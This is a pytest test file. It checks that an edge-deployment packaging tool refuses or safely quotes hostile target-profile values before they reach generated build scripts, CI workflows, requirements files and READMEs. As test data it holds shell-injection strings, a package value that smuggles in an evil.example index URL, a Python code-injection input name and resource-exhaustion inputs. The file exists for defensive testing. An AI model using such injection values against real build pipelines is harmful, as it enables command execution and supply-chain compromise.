"""Issue #14, item 1 (and the profile parts of 5 and 6): a profile is untrusted data.

Its strings reach generated files (the bundle folder name, build_runtime.sh, requirements.txt, the CI
workflow, READMEs); none may inject a command, a line, a package or a path, and a hostile profile
costs bounded, linear work.
"""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from conftest import REPO, SAMPLE_MODEL
from edgepack.errors import ProfileError
from edgepack.target import load_target

RPI4 = (REPO / "targets" / "rpi4-cpu.toml").read_text(encoding="utf-8")
CALIB = REPO / "sample_apps" / "model" / "calibration"
VERSION = "1.32.0"


def _profile(tmp_path: Path, filename: str = "mine.toml", **lines: str) -> Path:
    """rpi4-cpu's profile with ``key = ...`` lines replaced (key -> whole new line)."""
    out = []
    for line in RPI4.splitlines():
        key = line.split("=", 1)[0].strip()
        out.append(lines.pop(key) if key in lines and "=" in line else line)
    extra = "\n".join(lines.values())
    path = tmp_path / filename
    path.write_text("\n".join(out) + "\n" + extra + "\n", encoding="utf-8")
    return path


def _edited(tmp_path: Path, old: str, new: str, name: str = "mine.toml") -> Path:
    assert old in RPI4
    path = tmp_path / name
    path.write_text(RPI4.replace('name = "rpi4-cpu"', 'name = "mine"').replace(old, new), encoding="utf-8")
    return path


# --------------------------------------------------------------------- refused profiles (table)

REFUSED = [
    # (what, how the profile is made, expected message)
    ("name with a newline and a command", dict(name='name = "x\\ntouch PWNED"'), r"'name' = .* control character \(U\+000A\)"),
    ("name '*'", dict(name='name = "*"'), r"'name' = '\*' must be a plain folder name"),
    ("name '../escape'", dict(name='name = "../escape"'), r"must be a plain folder name"),
    ("name '..'", dict(name='name = ".."'), r"must be a plain folder name"),
    ("name '.'", dict(name='name = "."'), r"must be a plain folder name"),
    ("name with a space", dict(name='name = "my target"'), r"must be a plain folder name"),
    ("name with a slash", dict(name='name = "a/b"'), r"must be a plain folder name"),
    ("name with $(...)", dict(name='name = "$(touch PWNED)"'), r"must be a plain folder name"),
    ("stock_package with newlines",
     dict(name='name = "pkg"', stock_package='stock_package = "onnxruntime\\n--extra-index-url https://evil.example/simple\\nevilpkg"'),
     r"'minimal_build.stock_package' = .* control character \(U\+000A\)"),
    ("stock_package with a specifier", dict(name='name = "pkg"', stock_package='stock_package = "onnxruntime>=1.0"'),
     r"'minimal_build.stock_package' = 'onnxruntime>=1.0' must be a Python package name \(PEP 508"),
    ("stock_package that is an option", dict(name='name = "pkg"', stock_package='stock_package = "--index-url=https://x"'),
     r"must be a Python package name"),
    ("stock_package with a URL", dict(name='name = "pkg"', stock_package='stock_package = "evil @ https://x/e.whl"'),
     r"must be a Python package name"),
    ("a control character in a nested table value", "sources-esc", r"'device.sources.idle_w' = .* control character \(U\+001B\)"),
    ("a control character in an array-of-tables value", "reason-cr", r"'quantization\[0\].reason' = .* control character \(U\+000D\)"),
    ("a control character in a key", "key-nul", r"key .* under 'device.sources' contains a control character \(U\+0000\)"),
    ("a bidi override in the description", dict(description='description = "safe\\u202egnp.exe"'),
     r"'description' = .* control character \(U\+202E\)"),
    ("a control character in a flag", "flag-tab", r"'minimal_build.flags\[.\]' = .* control character \(U\+0009\)"),
    ("$(...) as the --config value", "config-subst", r"'--config' '\$\(touch PWNED\)'; onnxruntime builds one of"),
    ("--config without a value", "config-last", r"ends with '--config' without a value"),
    ("a provider option key that is not an identifier", "option-key", r"'runtime.provider_options' key .* must be an identifier"),
    ("extends with a NUL", "extends-nul", r"'extends' = .* control character \(U\+0000\)"),
]


def _make(tmp_path: Path, how) -> Path:
    if isinstance(how, dict):
        return _profile(tmp_path, **how)
    if how == "sources-esc":
        return _edited(tmp_path, '"idle_w" = "geerlingguy', '"idle_w" = "\\u001b[2Jgeerlingguy')
    if how == "reason-cr":
        return _edited(tmp_path, 'reason = "int8 QDQ', 'reason = "\\rint8 QDQ')
    if how == "key-nul":
        return _edited(tmp_path, '"idle_w" = "geerlingguy', '"idle\\u0000w" = "x"\n"idle_w" = "geerlingguy')
    if how == "flag-tab":
        return _edited(tmp_path, '"--parallel",', '"--parallel\\t--x",')
    if how == "config-subst":
        return _edited(tmp_path, '"--config", "MinSizeRel"', '"--config", "$(touch PWNED)"')
    if how == "config-last":
        return _edited(tmp_path, '"--parallel",', '"--parallel", "--config",')
    if how == "option-key":
        return _edited(tmp_path, 'op_table = "cpu"', 'op_table = "cpu"\nprovider_options = { "a\\"b" = "1" }')
    if how == "extends-nul":
        path = tmp_path / "mine.toml"
        path.write_text('extends = "rpi4-cpu\\u0000"\nname = "mine"\n', encoding="utf-8")
        return path
    raise AssertionError(how)


@pytest.mark.parametrize(("what", "how", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_hostile_profile_strings_are_refused(tmp_path, what, how, message):
    path = _make(tmp_path, how)
    with pytest.raises(ProfileError, match=message):
        load_target(str(path))


@pytest.mark.parametrize(("what", "how", "message"), REFUSED[:4] + REFUSED[8:9] + REFUSED[17:18],
                         ids=[r[0] for r in REFUSED[:4] + REFUSED[8:9] + REFUSED[17:18]])
def test_hostile_profiles_through_the_cli_one_line_nothing_written(cli, tmp_path, monkeypatch, what, how, message):
    monkeypatch.chdir(tmp_path)
    path = _make(tmp_path, how)
    code, out, err = cli("build", SAMPLE_MODEL, "--target", path, "-o", tmp_path / "OUT", "--calibration", CALIB)
    assert code == 2, err
    assert len(err.splitlines()) == 1 and err.startswith("error: ") and re.search(message, err), err
    assert not (tmp_path / "OUT").exists()  # refused before any work
    assert not list(tmp_path.rglob("PWNED")) and not (tmp_path.parent / "escape").exists()


# --------------------------------------------------------------------- what reaches the files is quoted


def _command_words(script: str) -> list[str]:
    """The words of the ./build.sh command as bash itself splits them (./build.sh replaced by printf)."""
    lines = script.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("./build.sh"))
    end = next(i for i in range(start, len(lines)) if not lines[i].endswith("\\"))
    command = "\n".join(lines[start:end + 1]).replace("./build.sh", "printf '%s\\n'", 1)
    env_setup = 'BUNDLE_DIR=/b ANDROID_SDK_ROOT=/sdk ANDROID_NDK_HOME=/ndk; EXTRA_ARGS=()\n'
    return subprocess.run(["bash", "-c", env_setup + command], capture_output=True, text=True, check=True).stdout.splitlines()


HOSTILE_FLAGS = ["$(touch PWNED)", "`touch PWNED`", "a;touch PWNED", "x' 'y", '"; touch PWNED; "', "$HOME", "${PATH}",
                 "*", "a b", "--x=$(id)", "|| touch PWNED", "&& touch PWNED", "> PWNED", "\\$(x)", "$ANDROID_SDK_ROOT_x"]


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_build_script_quotes_every_profile_flag(tmp_path, monkeypatch):
    from edgepack.backends.onnxruntime.minimal_build import build_script

    monkeypatch.chdir(tmp_path)
    flags = ", ".join(json.dumps(f) for f in HOSTILE_FLAGS)
    path = _edited(tmp_path, '"--parallel",', f'"--parallel", "--cmake_extra_defines", {flags},')
    profile = load_target(str(path))
    script = build_script(profile, ort_version=VERSION, uses_ml_ops=False)
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    words = _command_words(script)
    for flag in HOSTILE_FLAGS:  # each one reaches build.sh as exactly one word, unexpanded
        assert flag in words, (flag, words)
    assert "/b/required_operators_and_types.config" in words  # our own $BUNDLE_DIR still expands
    assert not list(tmp_path.rglob("PWNED"))
    # the only other profile value on a command line is the --config in the final echo: a fixed word
    echo = next(line for line in script.splitlines() if line.startswith('echo "built:'))
    assert shlex.split(echo)[1].endswith("/MinSizeRel")


def test_profile_name_and_config_in_the_ci_workflow_are_yaml_strings(tmp_path):
    yaml = pytest.importorskip("yaml")
    from edgepack.backends.onnxruntime.minimal_build import ci_workflow

    path = _profile(tmp_path, name='name = "my-target_2.b"')
    text = ci_workflow(load_target(str(path)), VERSION)
    doc = yaml.safe_load(text)
    assert doc["name"] == f"onnxruntime {VERSION} for my-target_2.b"
    assert doc.get("on", doc.get(True))["workflow_dispatch"]["inputs"]["bundle"]["default"] == "my-target_2.b"
    steps = doc["jobs"]["build"]["steps"]
    upload = next(s for s in steps if s.get("uses", "").startswith("actions/upload-artifact"))
    assert upload["with"]["name"] == f"onnxruntime-{VERSION}-my-target_2.b"
    run = next(s for s in steps if "build_runtime.sh" in s.get("run", ""))
    assert "${{" not in run["run"] and run["env"]["BUNDLE"] == "${{ inputs.bundle }}"  # no expression inside a shell line


@pytest.mark.parametrize("name", ["rpi4-cpu", "a", "x.y-z_1", "-", "---", "...x"])
def test_any_valid_name_gives_a_parseable_workflow_and_script(tmp_path, name):
    yaml = pytest.importorskip("yaml")
    from edgepack.backends.onnxruntime.minimal_build import build_script, ci_workflow

    profile = load_target(str(_profile(tmp_path, name=f'name = "{name}"')))
    doc = yaml.safe_load(ci_workflow(profile, VERSION))
    assert doc.get("on", doc.get(True))["workflow_dispatch"]["inputs"]["bundle"]["default"] == name
    if shutil.which("bash"):
        subprocess.run(["bash", "-n"], input=build_script(profile, ort_version=VERSION, uses_ml_ops=False), text=True,
                       check=True)


def test_scripts_refuse_a_profile_made_in_python_without_the_loader():
    from dataclasses import replace

    from edgepack.errors import StageError
    from edgepack.backends.onnxruntime.minimal_build import build_script, ci_workflow

    bad = replace(load_target("rpi4-cpu"), name="x\ntouch PWNED")
    with pytest.raises(StageError, match="control character|plain folder name"):
        build_script(bad, ort_version=VERSION, uses_ml_ops=False)
    with pytest.raises(StageError):
        ci_workflow(bad, VERSION)
    bad = replace(load_target("rpi4-cpu"), stock_package="onnxruntime\nevil")
    with pytest.raises(StageError, match="Python package name"):
        build_script(bad, ort_version=VERSION, uses_ml_ops=False)


def test_readme_code_quotes_a_hostile_model_input_name(tmp_path, cli):
    """A model's input name goes into the README's Python snippet as a string literal, escaped."""
    import ast

    import onnx
    from onnx import TensorProto, helper

    name = 'x"}); __import__("os").system("touch PWNED"); ({"'
    graph = helper.make_graph([helper.make_node("Relu", [name], ["y"])], "g",
                              [helper.make_tensor_value_info(name, TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.save(model, str(tmp_path / "m.onnx"))
    code, _, err = cli("build", tmp_path / "m.onnx", "--target", "rpi4-cpu", "-o", tmp_path / "OUT")
    assert code == 0, err
    readme = (tmp_path / "OUT" / "rpi4-cpu" / "README.md").read_text()
    snippet = readme.split("```python\n", 1)[1].split("```", 1)[0]
    tree = ast.parse(snippet)  # valid Python: the name did not break out of its string
    keys = [k.value for node in ast.walk(tree) if isinstance(node, ast.Dict) for k in node.keys]
    assert keys == [name]
    calls = [n.func.attr for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)]
    assert "system" not in calls


# --------------------------------------------------------------------- bounded, linear work


def _many_units(tmp_path: Path, n: int) -> Path:
    units = "".join(f'\n[device.units.u{i}]\nkind = "gpu"\nactive_w = 1.0\n' for i in range(n))
    sources = "".join(f'"units.u{i}.active_w" = "x"\n' for i in range(n))
    text = RPI4.replace('name = "rpi4-cpu"', 'name = "many"')
    text = text.replace("[device.sources]\n", units + "\n[device.sources]\n" + sources)
    path = tmp_path / "many.toml"
    path.write_text(text, encoding="utf-8")
    return path


def test_twenty_thousand_compute_units_are_refused_quickly(tmp_path):
    path = _many_units(tmp_path, 20000)
    start = time.perf_counter()
    with pytest.raises(ProfileError, match=r"'device.(units|sources)' has 200\d\d entries; a profile table holds at most 256"):
        load_target(str(path))
    assert time.perf_counter() - start < 10


def test_source_check_is_linear(tmp_path, monkeypatch):
    import edgepack.target as target

    top = []
    real = target._numeric_leaves

    def counting(table, prefix=""):
        if prefix == "":
            top.append(1)
        return real(table, prefix)

    monkeypatch.setattr(target, "_numeric_leaves", counting)
    load_target(str(_many_units(tmp_path, 200)))
    assert len(top) == 1  # one walk of [device]; it was one more walk per source key (quadratic)


@pytest.mark.parametrize("depth", [17, 1200])
def test_long_extends_chains_are_refused(tmp_path, depth):
    (tmp_path / "p0.toml").write_text('extends = "rpi4-cpu"\nname = "p0"\n')
    for i in range(1, depth):
        (tmp_path / f"p{i}.toml").write_text(f'extends = "p{i - 1}.toml"\nname = "p{i}"\n')
    with pytest.raises(ProfileError, match=r"'extends' chain is longer than 16 profiles"):
        load_target(str(tmp_path / f"p{depth - 1}.toml"))


def test_a_chain_of_sixteen_still_loads(tmp_path):
    (tmp_path / "p0.toml").write_text('extends = "rpi4-cpu"\nname = "p0"\n')
    for i in range(1, 15):
        (tmp_path / f"p{i}.toml").write_text(f'extends = "p{i - 1}.toml"\nname = "p{i}"\n')
    assert load_target(str(tmp_path / "p14.toml")).name == "p14"


@pytest.mark.parametrize("text", ["x = " + "[" * 5000 + "]" * 5000, "x = " + "{a=" * 3000 + "1" + "}" * 3000,
                                  "x = " + "[" * 20 + "1" + "]" * 20])
def test_deeply_nested_profiles_are_one_error(tmp_path, text):
    path = tmp_path / "deep.toml"
    path.write_text(text + "\n")
    with pytest.raises(ProfileError, match="nested"):
        load_target(str(path))


def test_builtin_profiles_pass_the_new_checks():
    from edgepack.target import builtin_names

    for name in builtin_names():
        profile = load_target(name)
        assert profile.files == ()  # built-in files are not the user's inputs
